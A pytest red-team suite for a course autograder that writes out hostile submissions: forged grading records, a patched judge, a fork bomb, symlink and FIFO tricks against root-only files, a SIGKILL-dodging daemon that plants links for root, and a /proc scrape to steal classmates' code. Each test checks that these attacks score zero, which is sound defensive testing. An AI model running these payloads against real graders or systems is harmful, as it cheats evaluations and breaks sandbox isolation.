"""Red team: submissions that want points without the work. Each must score 0 for the tasks it
did not really do, and the grader must come out of it unharmed.

In-process variants always run. The sandboxed variants (the exact Gradescope set-up: grader as
root, the submission's code as an unprivileged user, solutions private) run when the tests run
as root, with a user created for them; elsewhere they are skipped saying why.

The student API (tests/test_student_api.py) refuses nearly every attack here at intake (they
import os, sys, json or pagedlab's internals), before the layer the attack is aimed at: the
judge, the record, the sandbox. So they all run with it off (a grader-side plugin), and each
attack meets the defence it is written against.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from pagedlab.grader.cli import grade
from pagedlab.spec import manifest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from sandbox_users import ensure_user, interpreter_reachable  # noqa: E402,F401 - the red teams' shared helpers

ROOT = Path(__file__).resolve().parent.parent
EXERCISES = ROOT / "exercises"
PY_FILES = ("memory_manager.py", "paged_attention.py", "prefix_cache.py", "buddy.py", "swap.py")
# Graded by the same check module and child as a task kept (Task 6's for 7-9, Task 10's runner
# for 14): where an attack gains nothing from them, they are left out.
SAME_MACHINERY = ("task7", "task8", "task9", "task14")
# One task per check module an attack in the Python files reaches (the child loads that module's
# files; the judge is the same for all). Tasks 10 and 14 would grade the untouched kernel stubs
# (tests/test_grading_real.py's stubs test); Tasks 2-5 share Task 1's module, 7-9 Task 6's.
ATTACKED_TASKS = ["task1", "task6", "task11", "task12", "task13"]

# Appended to every Python exercise: forge a perfect record from the committed expected results
# (every public check), claim every other check passed, and leave before the driver runs.
FORGE_RECORDS = textwrap.dedent('''
    import json as _j, os as _o, sys as _s
    from pathlib import Path as _P
    def _forge():
        fd = _o.environ.get("PAGEDLAB_RECORD_FD")
        if not fd:
            return
        import pagedlab.grader.golden as g
        records = g.load()["records"]
        req = {"checks": []}
        with _o.fdopen(int(fd), "a", closefd=False) as out:
            out.write(_j.dumps({"event": "start"}) + "\\n")
            # The task's checks, in the order the grader asked: public ones have committed records.
            task = [k for k in records][0]
            for i in range(64):
                out.write(_j.dumps({"event": "begin", "index": i}) + "\\n")
                rec = list(records.values())[i % len(records)]
                out.write(_j.dumps({"event": "record", "index": i, "record": rec}) + "\\n")
            out.write(_j.dumps({"event": "done"}) + "\\n")
        _o._exit(0)
    _forge()
''')

# Rewrites the judge and the registry inside the child: the verdict is not made there.
PATCH_JUDGE = textwrap.dedent('''
    import pagedlab.grader.judge as _jd, pagedlab.drivers.record as _fw
    _jd.judge = lambda *a, **k: _jd.Verdict(True)
    _fw.drive = lambda c, impl=None, seed=0: _fw.Stream([], "completed")
''')

# Finds the running record through gc and replaces it with the reference's committed values.
GC_TAMPER = textwrap.dedent('''
    import gc as _gc
    def _tamper():
        import pagedlab.drivers.record as fw, pagedlab.grader.golden as g
        for obj in _gc.get_objects():
            if isinstance(obj, fw.Run):
                rec = next(iter(g.load()["records"].values()))
                obj.stream.obs[:] = rec["obs"]
        return None
''')


API_OFF = Path(__file__).parent / "submissions" / "student_api_off.py"


@pytest.fixture(autouse=True)
def student_api_off(monkeypatch):
    monkeypatch.setenv("PAGEDLAB_GRADING_PLUGIN", str(API_OFF))


def _submission(tmp_path: Path, extra: str = "", files=PY_FILES, cu_extra: str = "") -> Path:
    sub = tmp_path / "submission"
    sub.mkdir()
    for name in files:
        (sub / name).write_text((EXERCISES / name).read_text() + extra)
    (sub / "paged_attention.cu").write_text((EXERCISES / "paged_attention.cu").read_text() + cu_extra)
    return sub


def _scores(results: dict) -> dict:
    return {t["number"]: t["score"] for t in results["tests"] if not t["number"].endswith("h")}


def _grade(sub, **kw) -> dict:
    return grade(str(sub), echo=lambda *a: None, **kw)


# Public checks only in the two below: the verdict is the grader's judge with or without hidden
# checks, and each hidden check would add a reference run per task.
def test_forged_records_from_the_committed_results_earn_nothing(tmp_path):
    results = _grade(_submission(tmp_path, FORGE_RECORDS), tasks=ATTACKED_TASKS, hidden=False)
    assert results["score"] == 0, _scores(results)
    assert sorted(_scores(results)) == sorted(t.removeprefix("task") for t in ATTACKED_TASKS)


def test_the_attacked_tasks_cover_every_python_file():
    files = {name for row in manifest.TABLE if row.id in ATTACKED_TASKS for name in row.files}
    assert files >= set(PY_FILES), set(PY_FILES) - files


def test_patching_the_judge_or_the_registry_in_the_child_earns_nothing(tmp_path):
    results = _grade(_submission(tmp_path, PATCH_JUDGE), tasks=ATTACKED_TASKS, hidden=False)
    assert results["score"] == 0, _scores(results)
    assert sorted(_scores(results)) == sorted(t.removeprefix("task") for t in ATTACKED_TASKS)


def test_tampering_with_the_record_through_gc_earns_nothing(tmp_path):
    extra = GC_TAMPER + textwrap.dedent('''
        def llm_init(pool_addr, pool_size):
            return _tamper()
        def create_sequence(engine, seq_id, n):
            return _tamper()
    ''')
    results = _grade(_submission(tmp_path, extra), tasks=["1", "2"])
    assert results["score"] == 0, _scores(results)


def test_a_kernel_whose_static_initializer_forges_the_record_earns_nothing(tmp_path):
    forge = textwrap.dedent('''
        #define PL_FORGE_LINES "{\\"event\\": \\"start\\"}\\n{\\"event\\": \\"done\\"}\\n"
        extern "C" int open(const char*, int, ...);
        extern "C" long write(int, const void*, unsigned long);
        extern "C" void _exit(int);
        struct Forge { Forge() {
            char path[4096]; extern char** environ; (void)environ;
            // No way to know the event file's name from here but /proc: claim success on stdout.
            write(1, PL_FORGE_LINES, sizeof(PL_FORGE_LINES) - 1);
            _exit(0);
        } } forge_instance;
    ''')
    results = _grade(_submission(tmp_path, cu_extra=forge), tasks=["10"])
    assert results["score"] == 0, _scores(results)


def test_symlinks_fifos_and_huge_files_are_refused_not_followed(tmp_path):
    sub = tmp_path / "submission"
    sub.mkdir()
    for name in PY_FILES:
        (sub / name).symlink_to(ROOT / "solutions" / name)
    (sub / "paged_attention.cu").symlink_to(ROOT / "solutions" / "paged_attention.cu")
    lines = []
    results = grade(str(sub), echo=lambda *a: lines.append(" ".join(map(str, a))))
    assert results["score"] == 0
    assert "refused memory_manager.py: a symbolic link" in "\n".join(lines)
    fifo_dir = tmp_path / "fifo"
    fifo_dir.mkdir()
    os.mkfifo(fifo_dir / "memory_manager.py")
    (fifo_dir / "buddy.py").write_bytes(b"#" * (2 * 1024 * 1024))
    lines = []
    results = grade(str(fifo_dir), echo=lambda *a: lines.append(" ".join(map(str, a))), tasks=["1", "12"])
    text = "\n".join(lines)
    assert results["score"] == 0
    assert "a FIFO" in text and "over the 1 MB limit" in text


def test_an_oversized_or_malformed_record_fails_cleanly(tmp_path):
    flood = textwrap.dedent('''
        import sys as _s, os as _o
        if _o.environ.get("PAGEDLAB_RECORD_FD"):
            with _o.fdopen(int(_o.environ["PAGEDLAB_RECORD_FD"]), "a", closefd=False) as _f:
                _f.write('{"event": "start"}\\n')
                _f.write('{"event": "record", "index": 0, "record": ' + '[' * 100000 + ']' * 100000 + '}\\n')
                chunk = "x" * (1 << 20)
                for _ in range(70):
                    _f.write(chunk)
            _o._exit(0)
    ''')
    results = _grade(_submission(tmp_path, flood), tasks=["1", "6"], hidden=False)
    assert results["score"] == 0
    assert all("autograder problem" not in t["output"] for t in results["tests"])


def test_an_output_flood_fails_its_task_and_leaves_the_grader_alone(tmp_path):
    # 1 GB in 1 MB writes: four times the cap on what a task's process may write.
    flood = ("\nimport sys as _s, os as _o\nif _o.environ.get('PAGEDLAB_RECORD_FD'):\n"
             "    for _ in range(1024):\n        _s.stdout.write('spam' * (1 << 18))\n")
    results = _grade(_submission(tmp_path, flood, files=("memory_manager.py",)), tasks=["1"])
    assert results["score"] == 0


# ---------------------------------------------------------------------------------------------
# Sandboxed: as on Gradescope
# ---------------------------------------------------------------------------------------------
SANDBOX_USER = "pagedlab-sandbox-rt"


def grade_as_pool(names, monkeypatch) -> list:
    """`names` created and set as the grader's pool of sandbox users (one per concurrent job)."""
    for name in names:
        ensure_user(name)
    monkeypatch.setenv("PAGEDLAB_GRADE_USER", ",".join(names))
    return names


@pytest.fixture(scope="module")
def sandbox_user():
    """The sandbox user, able to run the grader's Python: created and probed once per module (the
    probe imports torch as that user, seconds each time), not once per test."""
    if os.geteuid() != 0:
        pytest.skip("the sandboxed red team needs root to create a user and switch to it "
                    "(CI runs as root; run `sudo pytest tests/test_redteam.py` to include it)")
    entry = ensure_user(SANDBOX_USER)
    with interpreter_reachable():
        probe = subprocess.run([sys.executable, "-c", "import numpy, torch, pagedlab"], user=entry.pw_uid,
                               group=entry.pw_gid, extra_groups=[], capture_output=True, text=True, cwd="/",
                               env={**os.environ, "HOME": "/tmp"})
        if probe.returncode != 0:
            pytest.fail(f"the sandbox user cannot run the grader's Python: {probe.stderr[-500:]}")
        yield SANDBOX_USER


@pytest.fixture
def sandbox(sandbox_user, monkeypatch):
    monkeypatch.setenv("PAGEDLAB_GRADE_USER", sandbox_user)
    # Private while a sandboxed test runs (chmod is cheap), the checkout as it was afterwards.
    private = [ROOT / "solutions", ROOT / "pagedlab" / "grader" / "expected.json"]
    modes = {p: p.stat().st_mode for p in private}
    for p in private:
        p.chmod(0o700 if p.is_dir() else 0o600)
    yield sandbox_user
    for p, mode in modes.items():
        p.chmod(mode)


@pytest.mark.task_wide
@pytest.mark.integration
@pytest.mark.xdist_group("users")  # the sandbox user (conftest.py)
def test_sandboxed_solutions_still_earn_full_marks(sandbox, tmp_path, monkeypatch):
    """The tasks' children run as the sandbox user, solutions/ and expected.json private: each HW3
    task (cheap, each its own checks), one torch and one kernel task. Tasks 7-9 share Task 6's
    check module and child, Task 14 Task 10's kernel runner; every task's full marks on the
    solutions, unsandboxed: tests/test_grading_real.py. The kernel is built in the job's private
    cache, pagedlab's own programs are not: they come from root's trusted builds."""
    from pagedlab.grader import cli
    from pagedlab.sandbox import trusted_builds

    private = {}
    remove_tree = cli.remove_tree

    def list_then_remove(workdir: Path) -> None:
        cuda = workdir / "cache" / "cuda"
        private["cache"] = sorted(os.listdir(cuda)) if cuda.is_dir() else []
        remove_tree(workdir)

    monkeypatch.setattr(cli, "remove_tree", list_then_remove)
    sub = tmp_path / "sub"
    shutil.copytree(ROOT / "solutions", sub)
    tasks = [r.id for r in manifest.TABLE if r.id not in SAME_MACHINERY]
    results = _grade(sub, tasks=tasks)
    assert sorted(_scores(results)) == sorted(t.removeprefix("task") for t in tasks), _scores(results)
    assert results["score"] == sum(r.points for r in manifest.TABLE if r.id in tasks), _scores(results)
    built = private["cache"]
    assert any(name.startswith("k_paged_attention") for name in built), built
    own = [name for name in built if name.startswith(("libpagedlab_rt", "pagedlab-runner", "pch_"))]
    folder = trusted_builds.folder()
    assert not own, f"built again in the job's cache: {own} ({folder} safe: {trusted_builds.safe(folder)})"


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # the sandbox user (conftest.py)
def test_sandboxed_attacks_earn_nothing(sandbox, tmp_path):
    steal = textwrap.dedent('''
        from pathlib import Path as _P
        _src = None
        for _p in ("solutions/memory_manager.py", "../solutions/memory_manager.py"):
            pass
        import pagedlab.loader as _l
        try:
            exec(compile((_l.ROOT / "solutions" / "memory_manager.py").read_text(), "stolen", "exec"))
        except PermissionError:
            pass
    ''')
    results = _grade(_submission(tmp_path, steal, files=("memory_manager.py",)), tasks=["1", "2", "3", "4", "5"])
    assert results["score"] == 0, _scores(results)
    bomb = textwrap.dedent('''
        import os as _o, sys as _s, time as _t
        def llm_init(pool_addr, pool_size):
            kids = 0
            for _ in range(400):
                try:
                    if _o.fork() == 0:
                        _t.sleep(60); _o._exit(0)
                    kids += 1
                except OSError:
                    break
            raise RuntimeError(f"forked {kids} processes")
    ''')
    (tmp_path / "b").mkdir()
    results = grade(str(_submission(tmp_path / "b", bomb, files=("memory_manager.py",))), tasks=["1"],
                    echo=lambda *a: None)
    text = results["tests"][0]["output"]
    forked = int(text.split("forked ")[1].split(" ")[0]) if "forked " in text else 0
    assert forked < 200, f"the process cap let {forked} processes through"
    deadline = time.monotonic() + 10  # SIGKILLed processes take a moment to be reaped
    while time.monotonic() < deadline:
        out = subprocess.run(["pgrep", "-u", SANDBOX_USER], capture_output=True, text=True)
        if not out.stdout.strip():
            break
        time.sleep(0.2)
    assert out.stdout.strip() == "", "processes of the sandbox user outlived their task"


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # the sandbox user (conftest.py)
def test_sandboxed_code_has_no_network_when_asked(sandbox, tmp_path, monkeypatch):
    import socket

    if shutil.which("unshare") is None or shutil.which("setpriv") is None:
        pytest.skip("PAGEDLAB_GRADE_NO_NETWORK needs util-linux's unshare and setpriv (apt-get install util-linux)")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    phone_home = textwrap.dedent(f'''
        def llm_init(pool_addr, pool_size):
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"solutions?")
            return None
    ''')
    sub = _submission(tmp_path, phone_home, files=("memory_manager.py",))
    # The seccomp filter refuses Internet sockets either way; the namespace is a second wall.
    for no_network, reached in (("0", False), ("1", False)):
        monkeypatch.setenv("PAGEDLAB_GRADE_NO_NETWORK", no_network)
        results = _grade(sub, tasks=["1"])
        try:
            server.accept()[0].close()
            connected = True
        except (TimeoutError, socket.timeout):
            connected = False
        while True:  # drain the other checks' connections
            try:
                server.accept()[0].close()
            except (TimeoutError, socket.timeout):
                break
        assert connected == reached, (no_network, results["tests"][0]["output"][-400:])
        assert results["score"] == 0
    server.close()


# Replaces what it can of root's trusted builds (the runtime every later kernel check of every
# later submission loads), adds a library beside them and removes one; reports what happened.
TAMPER_TRUSTED = textwrap.dedent('''
    import os as _o
    def llm_init(pool_addr, pool_size):
        top = _o.environ["PAGEDLAB_TRUSTED_BUILDS"]
        done = []
        for name in sorted(_o.listdir(top)):
            path = _o.path.join(top, name)
            for target in ([_o.path.join(path, n) for n in _o.listdir(path)] if _o.path.isdir(path) else [path]):
                for attempt, act in (("wrote", lambda: open(target, "r+b").write(b"planted")),
                                     ("removed", lambda: _o.unlink(target))):
                    try:
                        act()
                        done.append(f"{attempt} {target}")
                    except OSError as exc:
                        done.append(f"{type(exc).__name__}")
            try:
                open(_o.path.join(path if _o.path.isdir(path) else top, "planted.so"), "wb").close()
                done.append(f"added a file in {path}")
            except OSError as exc:
                done.append(f"{type(exc).__name__}")
        raise RuntimeError("tampering: " + ", ".join(sorted(set(done))))
''')


def _listing(top: Path) -> dict:
    """Every entry's name and content (the grade marks what it uses with a new mtime)."""
    import hashlib

    return {str(p.relative_to(top)): p.is_file() and hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(top.rglob("*"))}


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # the sandbox user (conftest.py)
def test_sandboxed_code_cannot_change_roots_trusted_builds(sandbox, tmp_path):
    """A grade with a kernel task hands its children root's trusted builds folder; the student's
    code can read it but neither change, add nor remove anything there."""
    from pagedlab.sandbox import trusted_builds

    sub = _submission(tmp_path, TAMPER_TRUSTED, files=("memory_manager.py",))
    (sub / "paged_attention.cu").unlink()  # Task 10 only asks for the folder; nothing to build
    top = trusted_builds.prepare()
    assert top is not None and trusted_builds.safe(top), f"{trusted_builds.folder()} is not a safe folder"
    before = _listing(top)
    results = _grade(sub, tasks=["1", "10"], hidden=False)
    out = results["tests"][0]["output"]
    assert "tampering: PermissionError" in out and "wrote" not in out and "removed" not in out \
        and "added" not in out, out
    assert _listing(top) == before
    assert results["score"] == 0


# ---------------------------------------------------------------------------------------------
# Sandboxed: the process around the child. Each attack is a real submission, graded
# through the command line as on Gradescope; each must score 0, get its own results.json with a
# clear message, leave no process behind, and reach nothing of root's.
# ---------------------------------------------------------------------------------------------
# Prepended to every attack: where the child's record goes, the descriptor the grader hands
# over (or, in a grader that still used a path, the file named on the child's command line).
RECORD = textwrap.dedent('''
    import os as _o, sys as _s
    def _record():
        fd = _o.environ.get("PAGEDLAB_RECORD_FD")
        return _o.fdopen(int(fd), "a", closefd=False) if fd else open(_s.argv[1], "a")
''')

ATTACKS = {
    # Crash with output.txt turned into a link to a root-only file: the crash report must not
    # show it (SECRET is filled in with the path of a file in a root-only folder).
    "symlinked output": '''
        import os as _o, signal as _sig
        try:
            _o.unlink("output.txt")
        except OSError:
            pass
        _o.symlink(SECRET, "output.txt")
        _o.kill(_o.getpid(), _sig.SIGSEGV)
    ''',
    # Crash with output.txt turned into a FIFO: a reader that opens it blocks forever.
    "fifo output": '''
        import os as _o, signal as _sig
        try:
            _o.unlink("output.txt")
        except OSError:
            pass
        _o.mkfifo("output.txt")
        _o.kill(_o.getpid(), _sig.SIGSEGV)
    ''',
    # The record replaced by /dev/zero: a reader without a cap reads until memory runs out.
    "dev zero record": '''
        _z = _o.open("/dev/zero", _o.O_RDONLY)
        if _o.environ.get("PAGEDLAB_RECORD_FD"):
            _o.dup2(_z, int(_o.environ["PAGEDLAB_RECORD_FD"]))
        elif len(_s.argv) > 1:
            _o.unlink(_s.argv[1])
            _o.symlink("/dev/zero", _s.argv[1])
        _o._exit(0)
    ''',
    # An integer too long for json.loads.
    "huge int": '''
        with _record() as _f:
            _f.write('{"event": "begin", "index": ' + "9" * 5000 + '}\\n')
        _o._exit(0)
    ''',
    # A 10,000-deep tree in the scratch folder for root's cleanup.
    "deep tree": '''
        import os as _o
        _here = _o.getcwd()
        for _i in range(10000):
            _o.mkdir("d")
            _o.chdir("d")
        _o.chdir(_here)
    ''',
    # A forged grader_error event: the student's text shown as the autograder's problem.
    "forged grader error": '''
        with _record() as _f:
            _f.write('{"event": "grader_error", "message": "FORGED: not your code, full marks"}\\n')
        _o._exit(0)
    ''',
    # A lone surrogate in an exception message: results.json cannot be encoded.
    "lone surrogate": '''
        raise ValueError("bad \\udc80 value")
    ''',
}


def _cli_grade(sub: Path, out: Path, tasks: list[str], timeout: float = 600) -> tuple[dict | None, str]:
    """`pagedlab grade --json` in a process of its own (a grader that hangs is killed, not
    waited on; its address space is capped so a runaway read cannot take the machine down)."""
    import resource
    import signal

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30, 4 * 2**30))

    cmd = [sys.executable, "-m", "pagedlab", "grade", "--impl", str(sub), "--json", str(out),
           "--tasks", ",".join(tasks), "--no-hidden"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                            start_new_session=True, preexec_fn=cap, cwd=ROOT)
    try:
        text = proc.communicate(timeout=timeout)[0]
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        text = proc.communicate()[0] + f"\n[the grader hung: killed after {timeout:.0f} s]"
    try:
        return json.loads(out.read_text(encoding="utf-8")), text
    except (OSError, ValueError):
        return None, text


def _user_processes(name: str) -> str:
    deadline = time.monotonic() + 10  # SIGKILLed processes take a moment to be reaped
    while True:
        out = subprocess.run(["pgrep", "-u", name], capture_output=True, text=True).stdout.strip()
        if not out or time.monotonic() > deadline:
            return out
        time.sleep(0.2)


@pytest.mark.integration
@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.xdist_group("users")  # a created sandbox user (conftest.py)
def test_sandboxed_attacks_on_the_process_around_the_child(sandbox, tmp_path, attack):
    private = tmp_path / "root-only"
    private.mkdir(mode=0o700)
    secret = private / "secret.txt"
    secret.write_text("".join(f"root-only line {i}: do not show\n" for i in range(40)))
    code = RECORD + textwrap.dedent(ATTACKS[attack]).replace("SECRET", repr(str(secret)))
    results, log = _cli_grade(_submission(tmp_path, code, files=("memory_manager.py",)),
                              tmp_path / "results.json", ["1"], timeout=300)
    assert results is not None, f"no results.json:\n{log[-3000:]}"
    assert results["score"] == 0
    assert results["tests"], f"results.json without the task's result: {results['output'][-1500:]}"
    text = json.dumps(results, ensure_ascii=False)
    assert "autograder problem" not in text and "misconfigured" not in text, text[-1500:]
    assert "root-only line" not in text, "a root-only file reached the feedback"
    assert _user_processes(sandbox) == "", "processes of the sandbox user outlived the grade"


# A process that survives its task: it leaves the task's session, keeps sending SIGKILL to -1
# (so a killer running as the same user dies first) and forks now and then (so a sweep that
# lists pids once misses it); meanwhile it plants output.txt -> TARGET in every folder it can
# write under /tmp, for root to create TARGET when it opens output.txt for the next task.
RACE = '''
    import os as _o, signal as _sig, time as _t, glob as _g
    def _daemon(target):
        if _o.fork():
            return
        _o.setsid()
        if _o.fork():
            _o._exit(0)
        end = _t.time() + 120
        n = 0
        while _t.time() < end:
            n += 1
            try:
                _o.kill(-1, _sig.SIGKILL)
            except OSError:
                pass
            if n % 50 == 0:
                try:
                    if _o.fork():
                        _o._exit(0)
                except OSError:
                    pass
            for d in _g.glob("/tmp/pagedlab-*/") + _g.glob("/tmp/pagedlab-*/*/"):
                p = d + "output.txt"
                if _o.path.islink(p):
                    continue
                try:
                    _o.unlink(p)
                except OSError:
                    pass
                try:
                    _o.symlink(target, p)
                except OSError:
                    pass
        _o._exit(0)
    _daemon(TARGET)
'''


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # a created sandbox user (conftest.py)
def test_a_process_that_dodges_the_kill_step_plants_nothing_for_root(sandbox, tmp_path):
    private = tmp_path / "root-only"
    private.mkdir(mode=0o700)
    target = private / "planted.pth"
    code = textwrap.dedent(RACE).replace("TARGET", repr(str(target)))
    results, log = _cli_grade(_submission(tmp_path, code, files=("memory_manager.py",)),
                              tmp_path / "results.json", ["1", "2"], timeout=600)
    assert not target.exists(), "root followed a link the submission planted"
    assert _user_processes(sandbox) == "", "a process of the submission outlived the kill step"
    assert results is not None, log[-3000:]
    assert results["score"] == 0
    assert "autograder problem" not in json.dumps(results), results["output"][-1500:]


# ---------------------------------------------------------------------------------------------
# grade-class: one sandbox user per concurrent job; a classmate's files out of reach
# ---------------------------------------------------------------------------------------------
POOL = ["pagedlab-sandbox-p0", "pagedlab-sandbox-p1", "pagedlab-sandbox-p2"]

# Looks for a classmate's memory_manager.py wherever the grader's processes point (their command
# lines in /proc) and in the grader's folders under /tmp, and runs the first finished one it finds.
STEAL_FROM_CLASSMATES = '''
    import os as _o, glob as _g
    def _steal():
        places = set(_g.glob("/tmp/pagedlab-*/*"))
        for cmdline in _g.glob("/proc/[0-9]*/cmdline"):
            try:
                args = open(cmdline, "rb").read().split(b"\\0")
            except OSError:
                continue
            for arg in args:
                arg = arg.decode(errors="ignore")
                if arg.startswith("/") and ("students" in arg or "submission" in arg):
                    places.update({arg, _o.path.dirname(arg), _o.path.dirname(_o.path.dirname(arg)),
                                   _o.path.dirname(_o.path.dirname(_o.path.dirname(arg)))})
        for top in sorted(places):
            for path in _g.glob(top + "/**/memory_manager.py", recursive=True)[:50]:
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "_steal" not in text and "YOUR CODE HERE" not in text:
                    exec(compile(text, path, "exec"), globals())
                    return
    _steal()
'''


@pytest.fixture
def pool(sandbox, monkeypatch):
    return grade_as_pool(POOL, monkeypatch)


def _class_folder(tmp_path: Path) -> Path:
    """A class folder as an instructor would have it: open to others (0755) but for the uploads."""
    import tempfile

    klass = Path(tempfile.mkdtemp(prefix="pagedlab-sandbox-class-"))
    klass.chmod(0o755)
    subs = klass / "submissions"
    subs.mkdir()
    for who in ("alice", "bob"):  # two honest students, both with the reference solution
        (subs / who).mkdir()
        for name in PY_FILES + ("paged_attention.cu",):
            shutil.copy(ROOT / "solutions" / name, subs / who / name)
    (subs / "mallory").mkdir()
    for name in PY_FILES + ("paged_attention.cu",):
        extra = textwrap.dedent(STEAL_FROM_CLASSMATES) if name == "memory_manager.py" else ""
        (subs / "mallory" / name).write_text((EXERCISES / name).read_text() + extra)
    subs.chmod(0o700)
    return klass


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # a created sandbox user (conftest.py)
def test_grade_class_jobs_run_under_their_own_users_and_see_no_classmate(pool, tmp_path):
    klass = _class_folder(tmp_path)
    out = klass / "out"
    try:
        run = subprocess.run([sys.executable, "-m", "pagedlab", "grade-class", str(klass / "submissions"),
                              "--out", str(out), "--jobs", "3", "--tasks", "1,2", "--no-hidden"],
                             capture_output=True, text=True, timeout=1200, cwd=ROOT,
                             env={**os.environ, "PYTHONPATH": str(ROOT)})
        students = out / "students"
        scores, spans, users = {}, {}, {}
        for who in ("alice", "bob", "mallory"):
            results = json.loads((students / who / "results.json").read_text())
            scores[who] = results["score"]
            state = json.loads((students / who / "state.json").read_text())
            end = (students / who / "results.json").stat().st_mtime
            spans[who] = (end - state["seconds"], end)
            log = (students / who / "grade.log").read_text()
            users[who] = log.split("runs as user '")[1].split("'")[0] if "runs as user '" in log else None
        assert scores == {"alice": 22, "bob": 22, "mallory": 0}, (scores, run.stdout[-2000:])
        assert len(set(users.values())) == 3 and None not in users.values(), users
        # The honest jobs really ran at the same time.
        assert spans["alice"][0] < spans["bob"][1] and spans["bob"][0] < spans["alice"][1], spans
        assert (out.stat().st_mode & 0o077) == 0 and (students / "alice").stat().st_mode & 0o077 == 0
    finally:
        subprocess.run(["rm", "-rf", str(klass)], check=False)


@pytest.mark.xdist_group("users")  # a created sandbox user (conftest.py)
def test_grade_class_refuses_uploads_other_users_can_read(pool, tmp_path):
    from pagedlab.grader import classroom

    subs = tmp_path / "uploads"
    subs.mkdir(mode=0o755)
    subs.chmod(0o755)
    with pytest.raises(ValueError, match="chmod 700"):
        classroom._refuse_readable_uploads(subs)
    subs.chmod(0o700)
    classroom._refuse_readable_uploads(subs)


# A process that kills every process of its user but itself and forks a new pid now and then,
# counting its rounds in a heartbeat file (its pid changes too fast for one look at /proc).
DODGER = '''
import os, signal, sys, time
beat = open(sys.argv[1], "w")
if os.fork():
    os._exit(0)
os.setsid()
end = time.time() + 20
n = 0
while time.time() < end:
    n += 1
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    if n % 20 == 0:
        beat.seek(0)
        beat.write(str(n))
        beat.flush()
        if os.fork():
            os._exit(0)
'''


def _beats(path: Path) -> bool:
    """Whether the dodger's heartbeat still moves."""
    before = path.read_text()
    time.sleep(0.5)
    return path.read_text() != before


@pytest.mark.xdist_group("users")  # a created sandbox user (conftest.py)
def test_the_kill_step_ends_a_process_that_kills_its_killers_and_forks(pool, tmp_path):
    """The kill step on its own, without a PID namespace (what a machine without one gets)."""
    import tempfile

    from pagedlab.sandbox import users

    user = pwd.getpwnam(POOL[2])
    folder = Path(tempfile.mkdtemp(prefix="pagedlab-sandbox-beat-"))
    folder.chmod(0o777)
    beat = folder / "beat"
    try:
        # (its first process may be killed by its own child before it exits: no check)
        subprocess.run(["/usr/bin/python3", "-c", DODGER, str(beat)], user=user.pw_uid, group=user.pw_gid,
                       extra_groups=[], cwd="/", env={"PATH": os.defpath}, check=False, timeout=30)
        time.sleep(0.3)
        assert _beats(beat), "the dodger did not start"
        users.kill_user(user.pw_uid, timeout=10)
        assert not _beats(beat), "the dodger survived the kill step"
    finally:
        users.kill_user(user.pw_uid, timeout=10)
        shutil.rmtree(folder)
